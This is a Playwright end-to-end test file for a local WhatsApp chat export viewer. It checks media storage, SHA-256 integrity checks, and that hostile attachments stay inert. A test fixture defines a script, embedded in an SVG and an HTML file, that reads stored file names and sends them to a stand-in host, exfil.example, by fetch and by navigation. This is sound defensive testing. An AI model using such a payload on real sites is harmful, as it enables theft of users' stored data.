// Media of a WhatsApp zip: kept as evidence (shown again after a reload, checked against their SHA-256, gone when the
// workspace is cleared), said to be not kept when the user chose so, and inert when hostile: an SVG and an HTML file
// with a script that reaches for OPFS and an outside host run nothing when every attachment URL is opened as a tab.
import { zipSync } from 'fflate';
import type { Page } from 'playwright-core';
import { afterEach, expect, test } from 'vitest';
import { assertNoCspViolations, assertNoOffMachineRequests, openApp, screenshot, type App } from './harness';

const TIMEOUT = 60_000;
const ZIP_NAME = 'WhatsApp Chat with Evidence Desk.zip';
const CHAT_NAME = 'WhatsApp Chat with Evidence Desk.txt';

// What the hostile files try: leave a marker in OPFS with the workspace's file names, fetch and navigate to an
// outside host with them, print to the console and change the title. Any of these seen means the script ran.
const ATTACK = `
console.log('HOSTILE script ran');
document.title = 'HOSTILE';
(async () => {
	const root = await navigator.storage.getDirectory();
	const names = [];
	for await (const name of root.keys()) names.push(name);
	const marker = await root.getFileHandle('pwned.txt', { create: true });
	const w = await marker.createWritable();
	await w.write(names.join(','));
	await w.close();
	fetch('http://exfil.example/steal?d=' + encodeURIComponent(names.join(','))).catch(() => {});
	location.href = 'http://exfil.example/nav?d=' + encodeURIComponent(names.join(','));
})();`;
const HOSTILE_SVG = `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script><![CDATA[${ATTACK}]]></script></svg>`;
const HOSTILE_HTML = `<!doctype html><html><head><title>invoice</title></head><body><p>Invoice</p><script>${ATTACK}</script></body></html>`;

/** The chat: a photo (a real PNG under a .jpg name), the SVG, the SVG again under a .jpg name, the HTML page, a PDF, and a file the zip lacks. */
function chatText(): string {
	return [
		'3/1/24, 9:00 AM - Dana Reyes: IMG-20240301-WA0001.jpg (file attached)',
		'3/1/24, 9:01 AM - Dana Reyes: logo.svg (file attached)',
		'3/1/24, 9:02 AM - Sam Ortiz: IMG-20240301-WA0002.jpg (file attached)',
		'3/1/24, 9:03 AM - Sam Ortiz: invoice.html (file attached)',
		'3/1/24, 9:04 AM - Dana Reyes: terms.pdf (file attached)',
		'3/1/24, 9:05 AM - Sam Ortiz: VID-20240301-WA0003.mp4 (file attached)',
		'3/1/24, 9:06 AM - Dana Reyes: got them all?'
	].join('\n');
}

/** A picture drawn in the browser (so the fixture is a genuine PNG), returned as bytes. */
async function drawnPng(page: Page): Promise<Uint8Array> {
	const dataUrl = await page.evaluate(() => {
		const c = document.createElement('canvas');
		c.width = 240;
		c.height = 120;
		const g = c.getContext('2d')!;
		g.fillStyle = '#2c6e91';
		g.fillRect(0, 0, 240, 120);
		g.fillStyle = '#ffffff';
		g.font = '20px sans-serif';
		g.fillText('dock 7, 09:00', 40, 66);
		return c.toDataURL('image/png');
	});
	return Uint8Array.from(Buffer.from(dataUrl.split(',')[1], 'base64'));
}

async function hostileZip(page: Page): Promise<Buffer> {
	const enc = (s: string) => new TextEncoder().encode(s);
	return Buffer.from(
		zipSync({
			[CHAT_NAME]: enc(chatText()),
			'IMG-20240301-WA0001.jpg': await drawnPng(page),
			'logo.svg': enc(HOSTILE_SVG),
			// The same attack under a photo's name, a different file (its own hash, its own stored copy).
			'IMG-20240301-WA0002.jpg': enc(HOSTILE_SVG.replace('<svg ', '<!-- as a photo --><svg ')),
			'invoice.html': enc(HOSTILE_HTML),
			'terms.pdf': enc('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n')
		})
	);
}

let app: App | undefined;
afterEach(async () => {
	await app?.close();
	app = undefined;
});

async function importZip(page: Page, zip: Buffer, keepMedia = true) {
	await page.getByRole('button', { name: 'Open sample archive' }).and(page.locator(':enabled')).waitFor({ timeout: TIMEOUT });
	const keep = page.getByRole('checkbox', { name: /Keep media files/ });
	if ((await keep.isChecked()) !== keepMedia) await keep.click();
	await page.getByLabel('Choose chat export files').setInputFiles({ name: ZIP_NAME, mimeType: 'application/zip', buffer: zip });
	await page.getByRole('region', { name: 'Import summary' }).waitFor({ timeout: TIMEOUT });
	await expect.poll(() => page.getByTestId('workspace-storage').innerText(), { timeout: TIMEOUT }).toBe('Saved on this machine · 7 messages');
}

const messages = (page: Page) => page.getByRole('list', { name: 'Messages' });
const attachment = (page: Page, name: string) => messages(page).getByRole('listitem').filter({ hasText: name }).last();

async function openChat(page: Page) {
	await page.getByRole('list', { name: 'Conversations' }).getByRole('link').first().click();
	await messages(page).getByRole('listitem').first().waitFor({ timeout: TIMEOUT });
}

async function imageShown(page: Page, name: string): Promise<boolean> {
	const img = page.getByRole('img', { name: `Attachment ${name}` });
	if ((await img.count()) === 0) return false;
	return img.evaluate((el: HTMLImageElement) => el.complete && el.naturalWidth > 0);
}

async function expectEvidenceShown(page: Page) {
	// The PNG named .jpg is shown as the image it is.
	await expect.poll(() => imageShown(page, 'IMG-20240301-WA0001.jpg'), { timeout: TIMEOUT }).toBe(true);
	// The SVG under either name, the HTML page and the PDF are offered as downloads only, and say what they are.
	for (const [name, what] of [
		['logo.svg', 'SVG, HTML or XML markup'],
		['IMG-20240301-WA0002.jpg', 'SVG, HTML or XML markup'],
		['invoice.html', 'SVG, HTML or XML markup'],
		['terms.pdf', 'PDF document']
	]) {
		const item = attachment(page, name);
		await item.getByRole('link', { name: `Save ${name}` }).waitFor({ timeout: TIMEOUT });
		expect(await item.innerText()).toContain(`${what}, offered as a download only`);
		expect(await item.getByRole('img').count()).toBe(0);
	}
	expect(await attachment(page, 'VID-20240301-WA0003.mp4').innerText()).toContain('(file not in the imported archive)');
}

/** Every URL the message list exposes for attachments: image sources, links, players. */
async function exposedUrls(page: Page): Promise<string[]> {
	const urls = await messages(page).evaluate((list) =>
		[...list.querySelectorAll('img[src], a[href], audio[src], video[src], source[src]')].map(
			(el) => (el as HTMLImageElement).src || (el as HTMLAnchorElement).href
		)
	);
	return [...new Set(urls)];
}

/** Opens a URL as its own tab, with no opener: the case where the page's CSP is not inherited. What happened there. */
async function openAsTab(app: App, url: string) {
	const tab = await app.context.newPage();
	const consoleLines: string[] = [];
	const navigations: string[] = [];
	let downloaded = false;
	tab.on('console', (m) => consoleLines.push(m.text()));
	tab.on('framenavigated', (f) => navigations.push(f.url()));
	tab.on('download', () => (downloaded = true));
	await tab.goto(url).catch((e: Error) => {
		if (!/Download is starting/.test(e.message)) throw e;
	});
	await tab.waitForTimeout(1500);
	const contentType = downloaded ? 'download' : await tab.evaluate(() => document.contentType).catch(() => 'closed');
	const title = await tab.title().catch(() => '');
	await tab.close();
	return { url, downloaded, contentType, title, consoleLines, navigations };
}

async function opfsNames(page: Page): Promise<string[]> {
	return page.evaluate(async () => {
		const names: string[] = [];
		for await (const name of ((await navigator.storage.getDirectory()) as unknown as { keys(): AsyncIterable<string> }).keys()) names.push(name);
		return names.sort();
	});
}

test('zip media are kept and shown after a reload; hostile SVG and HTML attachments opened as tabs run nothing', async () => {
	app = await openApp('/');
	const { page } = app;
	await importZip(page, await hostileZip(page));
	await openChat(page);
	await expectEvidenceShown(page);
	await screenshot(page, 'media-inline-and-downloads.png');

	const opened = [];
	const urls = await exposedUrls(page);
	// Five distinct files: the PNG (an image source and its link) and four downloads; the missing file has no URL.
	expect(urls.filter((u) => u.startsWith('blob:')).length).toBe(5);
	for (const url of urls) opened.push(await openAsTab(app, url));
	for (const o of opened) {
		expect(
			o.consoleLines.filter((l) => /HOSTILE/.test(l)),
			o.url
		).toEqual([]);
		expect(o.title, o.url).not.toBe('HOSTILE');
		expect(
			o.navigations.filter((n) => !n.startsWith('blob:') && n !== 'about:blank'),
			o.url
		).toEqual([]);
		// Either a picture or a download: never a document that could run script.
		expect(o.downloaded || /^image\/(png|jpeg|gif|webp|bmp|avif)$/.test(o.contentType), `${o.url} → ${o.contentType}`).toBe(true);
	}
	expect(opened.filter((o) => o.downloaded).length).toBe(4);
	expect(await opfsNames(page)).not.toContain('pwned.txt');

	await page.reload();
	await expect.poll(() => page.getByTestId('workspace-storage').innerText(), { timeout: TIMEOUT }).toBe('Restored on this machine · 7 messages');
	await openChat(page);
	await expectEvidenceShown(page);
	expect(await attachment(page, 'IMG-20240301-WA0001.jpg').innerText()).not.toContain('this tab only');
	const names = await opfsNames(page);
	expect(names).toContain('media');
	expect(names).not.toContain('pwned.txt');

	assertNoCspViolations(app);
	assertNoOffMachineRequests(app.requests);
	expect(app.pageErrors).toEqual([]);
}, 240_000);

test('a saved copy altered in storage is not shown; a leftover of a cut-short save is removed; clearing the workspace removes the media', async () => {
	app = await openApp('/');
	const { page } = app;
	await importZip(page, await hostileZip(page));
	// Overwrite the stored PNG with other bytes of the same length, as a change through developer tools would.
	const altered = await page.evaluate(async () => {
		const dir = await (await navigator.storage.getDirectory()).getDirectoryHandle('media');
		for await (const [name, handle] of (dir as unknown as { entries(): AsyncIterable<[string, FileSystemFileHandle]> }).entries()) {
			const file = await handle.getFile();
			const head = new Uint8Array(await file.slice(0, 4).arrayBuffer());
			if (head[0] !== 0x89) continue;
			const w = await handle.createWritable({ keepExistingData: true });
			await w.write({ type: 'write', position: file.size - 1, data: new Uint8Array([0]) });
			await w.close();
			return name;
		}
		return null;
	});
	expect(altered).toMatch(/^[0-9a-f]{64}$/);
	// A file left by an import whose workspace save never finished: no saved workspace names it.
	const leftover = 'e'.repeat(64);
	await page.evaluate(async (name) => {
		const dir = await (await navigator.storage.getDirectory()).getDirectoryHandle('media');
		const w = await (await dir.getFileHandle(name, { create: true })).createWritable();
		await w.write('left over');
		await w.close();
	}, leftover);
	await page.reload();
	await openChat(page);
	const photo = attachment(page, 'IMG-20240301-WA0001.jpg');
	await expect.poll(() => photo.innerText(), { timeout: TIMEOUT }).toContain('not shown: the saved copy does not match the SHA-256 recorded at import');
	expect(await photo.getByRole('img').count()).toBe(0);
	const stored = await page.evaluate(async () => {
		const dir = await (await navigator.storage.getDirectory()).getDirectoryHandle('media');
		const names: string[] = [];
		for await (const name of (dir as unknown as { keys(): AsyncIterable<string> }).keys()) names.push(name);
		return names;
	});
	expect(stored).not.toContain(leftover);
	expect(stored).toContain(altered);

	await page.getByRole('button', { name: 'Clear saved workspace' }).click();
	await page.getByRole('dialog', { name: 'Clear the saved workspace?' }).getByRole('button', { name: 'Clear and reload' }).click();
	await page.getByRole('heading', { name: 'Read your chat exports without sending them anywhere' }).waitFor({ timeout: TIMEOUT });
	// Only the audit trail's carry-over remains (it names the cleared log's last entry for the next log); no media.
	expect(await opfsNames(page)).toEqual(['audit-carry.json']);
	assertNoOffMachineRequests(app.requests);
}, 180_000);

test('media not kept: shown in this tab, and after a reload the message says they were not kept', async () => {
	app = await openApp('/');
	const { page } = app;
	await importZip(page, await hostileZip(page), false);
	await expect.poll(() => page.getByRole('region', { name: 'Import summary' }).innerText()).toMatch(/5 media files \([\d.]+ KB\) not kept, as chosen/);
	await openChat(page);
	await expect.poll(() => imageShown(page, 'IMG-20240301-WA0001.jpg'), { timeout: TIMEOUT }).toBe(true);
	expect(await attachment(page, 'IMG-20240301-WA0001.jpg').innerText()).toContain('readable in this tab only');
	expect(await opfsNames(page)).not.toContain('media');

	await page.reload();
	await openChat(page);
	const photo = attachment(page, 'IMG-20240301-WA0001.jpg');
	await expect.poll(() => photo.innerText(), { timeout: TIMEOUT }).toContain('(not kept: media files were not saved with this workspace, as chosen at import)');
	expect(await photo.innerText()).toMatch(/SHA-256 [0-9a-f]{12}…/);
	expect(await attachment(page, 'VID-20240301-WA0003.mp4').innerText()).toContain('(file not in the imported archive)');
	await screenshot(page, 'media-not-kept.png');
	assertNoCspViolations(app);
	assertNoOffMachineRequests(app.requests);
	expect(app.pageErrors).toEqual([]);
}, 180_000);

test('the media of a zip whose chat was imported bare before are kept and shown after a reload', async () => {
	app = await openApp('/');
	const { page } = app;
	await page.getByRole('button', { name: 'Open sample archive' }).and(page.locator(':enabled')).waitFor({ timeout: TIMEOUT });
	await page.getByLabel('Choose chat export files').setInputFiles({ name: CHAT_NAME, mimeType: 'text/plain', buffer: Buffer.from(chatText()) });
	await expect.poll(() => page.getByTestId('workspace-storage').innerText(), { timeout: TIMEOUT }).toBe('Saved on this machine · 7 messages');
	await openChat(page);
	expect(await attachment(page, 'IMG-20240301-WA0001.jpg').innerText()).toContain('(file not in the imported archive)');

	// The same chat in its zip: the same SHA-256, so no message is added twice; its media are recorded and kept.
	await page.getByLabel('Choose chat export files').setInputFiles({ name: ZIP_NAME, mimeType: 'application/zip', buffer: await hostileZip(page) });
	await expect
		.poll(() => page.getByRole('region', { name: 'Import summary' }).innerText(), { timeout: TIMEOUT })
		.toMatch(/Already in this workspace[\s\S]*5 media files .* kept with the workspace/);
	// The import ends with the save of the new media records.
	await expect.poll(() => page.getByRole('progressbar').count(), { timeout: TIMEOUT }).toBe(0);
	await page.reload();
	await expect.poll(() => page.getByTestId('workspace-storage').innerText(), { timeout: TIMEOUT }).toBe('Restored on this machine · 7 messages');
	await openChat(page);
	await expectEvidenceShown(page);
	assertNoOffMachineRequests(app.requests);
	expect(app.pageErrors).toEqual([]);
}, 180_000);
